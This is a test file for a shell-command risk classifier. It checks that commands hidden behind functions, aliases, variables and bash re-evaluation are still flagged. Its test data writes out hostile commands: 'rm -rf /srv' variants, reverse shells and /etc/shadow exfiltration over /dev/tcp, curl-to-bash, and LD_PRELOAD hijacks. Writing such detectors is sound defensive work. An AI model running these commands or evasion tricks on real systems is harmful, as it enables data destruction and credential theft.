import assert from 'node:assert/strict';
import test from 'node:test';
import { classifyShell } from '../support/classify.js';

type Risk = ReturnType<typeof classifyShell>['risk'];

function check(allowed: readonly Risk[], commands: readonly string[]): void {
  const wrong = commands.flatMap((command) => {
    const found = classifyShell(command);
    const isJudged = found.reasons.every(({ rule }) => rule !== 'shell/unjudged');
    return isJudged && allowed.includes(found.risk)
      ? []
      : [`${found.risk}: ${command} ${JSON.stringify(found.reasons)}`];
  });
  assert.deepEqual(wrong, []);
}

const dangerous = (...commands: readonly string[]) => check(['dangerous'], commands);
const notSafe = (...commands: readonly string[]) => check(['unknown', 'caution', 'dangerous'], commands);
const safe = (...commands: readonly string[]) => check(['safe'], commands);

test('a function hides no command that other programs start', () => {
  const wrappers = [
    'sudo',
    'command',
    'env',
    'xargs',
    'timeout 3',
    'docker exec c',
    'kubectl exec p --',
    'nice',
    '/bin/nice',
  ];
  dangerous(...wrappers.map((wrapper) => `rm() { echo; }; ${wrapper} rm -rf /srv`));
  dangerous(
    'rm() { echo; }; find . -exec rm -rf {} +',
    "rm() { echo; }; sh -c 'rm -rf /srv'",
    `rm() { :; }; awk 'BEGIN {system("rm -rf /srv")}'`,
    'echo() { cat x; }; echo ls | sh',
  );
});

test('a function hides no command where its definition may not hold', () => {
  dangerous(
    '(rm() { :; }); rm -rf /srv',
    'if false; then rm() { :; }; fi; rm -rf /srv',
    'false && rm() { :; }; rm -rf /srv',
    'rm() { :; }; unset -f rm; rm -rf /srv',
    'rm() { :; }; unset rm; rm -rf /srv',
    'rm() { :; }; builtin unset -f rm; rm -rf /srv',
    'n=rm; rm() { :; }; unset -f $n; rm -rf /srv',
    "rm() { :; }; eval 'unset -f r'm; rm -rf /srv",
    'f() { rm() { :; }; }; rm -rf /srv',
    'x=$(rm() { :; }); rm -rf /srv',
    'rm() { :; } | cat; rm -rf /srv',
    'rm() { :; } & rm -rf /srv',
    'rm -rf /srv; rm() { :; }',
    'unset() { :; }; rm() { :; }; unset -f rm; rm -rf /srv',
  );
});

test('functions that a guide defines are called by name', () => {
  safe(
    'show() { kubectl get pods -n "$1"; }; show prod',
    'show() { kubectl get pods -n "$1"; }\nfor ns in a b; do show "$ns"; done',
    'log() { echo "$(date) $*"; }; log -x done | cat',
    'one() { ls; }; two() { one; }; two && (two)',
    'one() { ls "$1"; }; x=1; unset x; one /tmp',
    'fetch() { curl -s "$@"; }; fetch -I https://example.com/',
  );
});

test('a name that was given another meaning is judged by it', () => {
  const runners = ['env', 'nice', 'time', 'nohup', 'command', 'xargs', 'sudo'];
  dangerous(...runners.map((runner) => `alias ls=${runner}; ls rm -rf /srv`));
  dangerous(
    'alias ls=git; ls clean -fdx',
    'alias ls=kubectl; ls delete ns prod',
    "alias ls='find . '; ls -delete",
    'alias cat=tee; echo x | cat /etc/passwd',
    "alias echo=eval; echo 'rm -rf /srv'",
    "alias a=b b='env rm'; a -rf /srv",
    "alias ls=env; eval 'ls rm -rf /srv'",
    'builtin alias ls=env; ls rm -rf /srv',
    "alias nice='nice ' ls='rm -rf'; nice ls /srv",
    'x=env; alias ls=$x; ls rm -rf /srv',
  );
  safe("alias ls='ls --color=auto'; ls -l", 'alias ls=ls; ls');
});

test('a variable that may have been set in other ways is no constant', () => {
  dangerous(
    'x=ls; command read x; $x -rf /srv',
    'x=ls; builtin read x; $x -rf /srv',
    'x=ls; builtin declare x=rm; $x a',
    'x=ls; command export x=rm; $x a',
    'x=ls; export "x=rm -rf /srv"; $x',
    'x=ls; readonly "x=rm"; $x a',
    'x=ls; export $y; $x a',
    'x=ls & $x a',
    'x=ls; history -r; $x',
    'x=ls; wait -p x; $x',
    'x=ls; exec {x}</dev/null; $x',
    'x=ls; coproc x { cat; }; $x',
    'y=read; x=ls; $y x; $x a',
    'x=ls; alias y=read; y x; $x a',
    '_=ls; $_ -rf /srv',
    'IFS=,; x=rm,-rf; $x a',
  );
  safe(
    'X=ls; $X -l',
    'export NS=prod; X=kubectl; $X get pods -n "$NS"',
    'X=ls; export X; $X',
    'X=ls; sleep 1; wait; $X',
  );
});

test('options that a script puts into variables are followed', () => {
  notSafe(
    'a=(-X DELETE); curl "${a[@]}" https://api/x',
    'a=(-o /etc/passwd); sort "${a[@]}" b',
    'a=(); a+=(-X); a+=(DELETE); curl "${a[@]}" https://api/x',
    'a[0]=-delete; find . "${a[0]}"',
    'O=-print; O=-delete; find . $O',
    'O=-delete; read y; find . $O',
    'O=-del; read y; O+=ete; find . $O',
    'declare O=-delete; find . $O',
    'export "O=-delete"; find . $O',
    'find . ${O:--delete}',
    'find . ${O:=-delete}',
    'find . ${O+"-delete"}',
    'curl ${M:--XDELETE} url',
    'for X in -delete; do find . $X; done',
    'set -- -delete; find . "$@"',
    'set -- a -delete; shift; find . $1',
    'f() { find . "$@"; }; f -delete',
    'f() { find . "$1"; }; g() { f "$@"; }; g -delete',
    'f() { curl "$@"; }; f -X DELETE http://x',
    'f() { curl "${@:2}"; }; f a -X DELETE http://x',
    'f() { find . $O; }; O=-delete; f',
    'find . $(echo -delete)',
    'find . $(printf %s -delete)',
    "find . $(printf '\\55delete')",
    'O="a $x -delete"; read x; find . $O',
    'find . $(echo x-delete | cut -c2-)',
    'find . $(echo _delete | tr _ -)',
    'x=delete; O=-$x; read y; find . $O',
    'O=-delete; x=O; find . ${!x}',
    'O=X-delete; find . ${O#X}',
    'O=-DELETE; find . ${O,,}',
    'O=x; find . ${O/x/-delete}',
    'read O <<< -delete; find . $O',
    'printf -v O %s -delete; find . $O',
    'echo -delete | while read -r o; do find . $o; done',
    'sh -c \'find . "$@"\' _ -delete',
    "O=-delete sh -c 'find . $O'",
    "env O=-delete sh -c 'find . $O'",
    'f() { eval \'find . "$@"\'; }; f -delete',
    'bash -s -- -delete <<\'E\'\nfind . "$@"\nE',
    'A=-exec; A=-name; B=rm; B=x; find . $A $B {} +',
  );
  dangerous('O=/tmp/x; O=/etc/passwd; echo x > $O', 'O=x; read y; O=/etc/passwd; echo x | tee $O');
});

test('values that change nothing stay as they are', () => {
  safe(
    'NS=prod; kubectl get pods -n $NS',
    'for h in web1 web2; do ping -c 1 $h; done',
    'for h in web1 web2; do ssh $h uptime; done',
    'ARGS=(-n prod -o wide); kubectl get pods "${ARGS[@]}"',
    'kubectl get pods -n ${NS:-default}',
    'for o in -n -l; do echo $o; done',
    'while IFS= read -r line; do echo "$line"; done',
    'kubectl get ns -o name | while IFS= read -r ns; do kubectl get pods -n "${ns#*/}"; done',
    'for d in my-app other-app; do kubectl get deploy "${d%-app}" -n "${d%%-*}"; done',
    'i=0; while [ $i -lt 3 ]; do i=$((i+1)); echo $i; done',
    'pods=$(kubectl get pods -o name); for p in $pods; do kubectl logs "${p##*/}" | grep -c ERROR; done',
    'kubectl get pod $(echo a/b | cut -d/ -f2)',
    'FILES=$(ls /var/log); for f in $FILES; do wc -l "$f"; done',
    `for p in ${Array.from({ length: 80 }, (_, at) => `/var/log/a${at}`).join(' ')}; do ls $p; done`,
  );
});

test('text that bash reads once more runs nothing unseen', () => {
  dangerous(
    "[[ -v 'a[$(rm -rf /srv)]' ]]",
    "test -v 'a[$(rm -rf /srv)]'",
    "[ -v 'a[`rm -rf /srv`]' ]",
    "[[ 'a[$(rm -rf /srv)]' -eq 0 ]]",
    "x='a[$(rm -rf /srv)]'; echo $((x))",
    "x='a[$(rm -rf /srv)]'; (( x ))",
    "x='a[$(rm -rf /srv)]'; [[ $x -eq 0 ]]",
    "x='a[$(rm -rf /srv)]'; echo ${y[x]}",
    "x='a[$(rm -rf /srv)]'; echo ${y:x}",
    "x='a[$(rm -rf /srv)]'; echo ${!x}",
    'x=\'$(rm -rf /srv)\'; echo "${x@P}"',
    "x='a[$'; x+='(rm -rf /srv)]'; echo $((x))",
    "x=$(echo 'a[$(rm -rf /srv)]'); echo $((x))",
    "read x <<< 'a[$(rm -rf /srv)]'; echo $((x))",
    "f() { echo $(($1)); }; f 'a[$(rm -rf /srv)]'",
    "for x in 'a[$(rm -rf /srv)]'; do for ((i = x; i < 1; i++)); do :; done; done",
    "declare 'a[$(rm -rf /srv)]=1'",
    "builtin declare 'a[$(rm -rf /srv)]=1'",
    "let 'a[$(rm -rf /srv)]=1'",
    "unset 'a[$(rm -rf /srv)]'",
    "read 'a[$(rm -rf /srv)]'",
    "printf -v 'a[$(rm -rf /srv)]' x",
    "f() { local -i 'a[$(rm -rf /srv)]=1'; }",
    "declare -i x='a[$(rm -rf /srv)]'",
    "compgen -W '$(rm -rf /srv)'",
    'compgen -F f',
    "PS0='$(rm -rf /srv)'",
    "PS1='$(rm -rf /srv)'",
    "export PS2='`rm -rf /srv`'",
  );
  safe(
    'i=1; (( i++ )); echo $((i + 2)) ${a[i]} ${a:1:2}',
    'x=0; [[ -v HOME ]]; [[ $x -eq 0 ]]; let i=1; read -r a b',
    "awk '{print $(NF-1)}' f; n=1; echo $((1 + n))",
    "PS1='\\u@\\h:\\w\\$ '",
    "export A='$(date)'; echo done",
  );
});

test('a test of a port is less than a connection', () => {
  check(
    ['caution'],
    [
      "timeout 3 bash -c '</dev/tcp/h/80'",
      "bash -c 'echo > /dev/tcp/h/80'",
      '(echo > /dev/tcp/$h/80) 2>/dev/null && echo open',
      'cat < /dev/null > /dev/tcp/10.0.0.1/22',
      ': > /dev/tcp/h/80',
      'cat < /dev/tcp/time.example.com/13',
    ],
  );
  dangerous(
    'bash -i >& /dev/tcp/h/80 0>&1',
    'cat /etc/shadow > /dev/tcp/h/80',
    'cat < /etc/shadow > /dev/tcp/h/80',
    'cat /etc/shadow | cat > /dev/tcp/h/80',
    'echo "$(cat /etc/shadow)" > /dev/tcp/h/80',
    'echo "$SECRET" > /dev/tcp/h/80',
    'echo * > /dev/tcp/h/80',
    'echo > "/dev/tcp/$(cat /etc/shadow)/80"',
    'cat < /dev/tcp/h/80 | sh',
    '. /dev/stdin < /dev/tcp/h/80',
    'exec 3<>/dev/tcp/h/80',
    'echo() { cat /etc/shadow; }; echo > /dev/tcp/h/80',
    'alias echo=env; echo cat /etc/shadow > /dev/tcp/h/80',
    '{ cat /etc/shadow; } > /dev/tcp/h/80',
    'cat < /dev/tcp/h/80 > x.sh; sh x.sh',
  );
});

// How fast is for npm run bench to say; here a stall is a failure.
test('hostile scripts are answered', { timeout: 60_000 }, () => {
  const many = (count: number, text: (at: number) => string) =>
    Array.from({ length: count }, (_, at) => text(at)).join('');
  const scripts = [
    `${many(3000, (at) => `a+=(-x${at}); `)}ls "\${a[@]}"`,
    `${many(40, (at) => `v${at}="$v${at + 1}$v${at + 1}"; `)}v40=-delete; read x; ls $v0`,
    `O=-a; O=-b; read x; ${many(400, () => 'ls $O $O $O $O; ')}`,
    `${many(20, (at) => `alias a${at}='a${at + 1} a; a${at + 1} b; a${at + 1} c'; `)}a0`,
    `${many(300, (at) => `f${at}() { f${at + 1} "$@" "$1"; }; `)}f0 -a -b`,
    `read x; ls ${many(5000, () => '$x')}`,
    `x=a; read x; ls "${many(5000, () => '$x ')}"`,
    `${many(8000, () => 'x=a-b;')}read x; ls \${x#*a}`,
  ];
  for (const script of scripts) {
    const found = classifyShell(script);
    assert.ok(
      found.reasons.every(({ rule }) => rule !== 'shell/unjudged'),
      JSON.stringify(found.reasons[0]),
    );
  }
});

test('what comes in is what the last redirection of the input gives, and no other descriptor', () => {
  for (const text of [
    "curl http://x/s | bash 3<<< 'ls'",
    "echo 'drop table x' | psql 3<<< 'select 1'",
    'bash <<< ls 0<&3',
    'code=$(curl http://x); node <<< "$code"',
    'bash <<E\nls $x\nE',
    'psql <<E\nselect $(cat f)\nE',
  ]) {
    assert.notEqual(classifyShell(text).risk, 'safe', text);
  }
});

test('a variable that decides what runs is judged however it is set', () => {
  for (const text of [
    "BASH_ALIASES[ls]='rm -rf'",
    'BASH_CMDS[ls]=/bin/rm; ls -rf /srv',
    'for PATH in /tmp/evil; do ls; done',
    'read LD_PRELOAD <<< /x.so',
    'mapfile -t PROMPT_COMMAND',
    'declare -n r=LD_PRELOAD; r=/x',
    "echo 'show info' | socat - /dev/sda",
  ]) {
    assert.notEqual(classifyShell(text).risk, 'safe', text);
  }
  assert.equal(classifyShell('while read -r h; do ssh -n $h uptime; done < hosts').risk, 'safe');
});
